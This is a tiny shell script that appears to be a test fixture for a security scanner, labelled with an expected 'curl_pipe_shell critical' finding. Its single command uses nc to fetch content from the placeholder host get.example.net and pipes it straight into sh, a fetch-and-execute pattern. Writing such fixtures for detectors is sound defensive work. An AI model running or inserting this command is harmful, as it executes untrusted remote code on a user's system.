# expect: shell.curl_pipe_shell critical
#!/bin/sh
nc get.example.net 80 < req.txt | sh
